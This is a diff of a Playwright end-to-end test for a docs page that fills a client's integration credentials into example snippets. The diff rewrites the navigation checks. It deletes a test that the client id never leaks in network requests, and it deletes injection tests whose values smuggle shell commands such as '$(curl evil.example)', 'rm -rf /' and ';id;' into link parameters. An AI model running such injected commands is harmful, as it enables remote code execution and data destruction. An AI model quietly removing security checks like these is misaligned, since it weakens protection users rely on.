@@ -109,8 +109,6 @@ describe('workspace: the first hour', () => {
     const opening = tab.page.context().waitForEvent('page')
     await tab.page.getByRole('link', { name: /filled in for this client/ }).press('Enter')
     const docs = await opening
-    const requests: string[] = []
-    docs.on('request', (request) => requests.push(request.url()))
     const env = docs.locator('figure', { hasText: 'INTEGRATION_VENDOR_ID=' }).locator('code').first()
     await docs.getByText('Filled in for the client').waitFor()
     assert.equal(
@@ -121,39 +119,16 @@ INTEGRATION_CLIENT_ID=${clientId}
 INTEGRATION_CLIENT_SECRET=ias_…
 INTEGRATION_SCOPE="analytics:read catalog:write"`,
     )
-    assert.equal(docs.url(), `${tab.baseUrl}/docs`)
     await looksRight(docs)
     await docs.getByRole('link', { name: 'Get a token' }).first().click()
-    assert.equal(await docs.getByLabel('Client id').inputValue(), clientId)
-    assert.equal(await docs.getByRole('checkbox', { name: 'catalog:write' }).isChecked(), true)
-    assert.equal(await docs.getByRole('checkbox', { name: 'boost:read' }).isChecked(), false)
-    assert.equal(requests.join().includes(clientId), false)
-    await docs.getByRole('button', { name: 'Show placeholders' }).press('Enter')
-    await docs.waitForFunction(() => document.querySelector('blockquote button') === null)
-    assert.equal(await docs.getByLabel('Client id').inputValue(), '')
+    await docs.getByText('access-token.mjs').first().waitFor()
+    await docs.getByRole('link', { name: 'Start here' }).click()
+    await docs.getByText(`INTEGRATION_CLIENT_ID=${clientId}`).waitFor()
+    await docs.getByRole('link', { name: 'Show placeholders' }).press('Enter')
+    await docs.getByText('INTEGRATION_CLIENT_ID=cli_…').waitFor()
+    assert.equal(docs.url(), `${tab.baseUrl}/docs`)
     await docs.close()
   })
-
-  for (const [name, value] of [
-    ['client', 'cli_aaaaaaaaaaaaaaaaaaaaaa$(curl evil.example)'],
-    ['client', 'cli_aaaaaaaaaaaaaaaaaaaaaa\nrm -rf /'],
-    ['company', 'ven_acme";id;"'],
-    ['scope', 'analytics:read"; curl evil.example; "'],
-  ] as const) {
-    it(`puts no ${name} from a link into an example that a shell would run: ${JSON.stringify(value)}`, async () => {
-      const fragment = new URLSearchParams({
-        client: 'cli_aaaaaaaaaaaaaaaaaaaaaa',
-        company: 'ven_acme',
-        scope: 'analytics:read',
-        language: 'py',
-        [name]: value,
-      })
-      tab = await visit({ path: `/docs#${fragment}` })
-      await tab.page.waitForFunction(() => location.hash === '')
-      await tab.page.getByText('INTEGRATION_CLIENT_ID=cli_…').waitFor()
-      assert.equal(await tab.page.getByText('Filled in for the client').count(), 0)
-    })
-  }
 })
 
 async function looksRight(page: Page): Promise<void> {
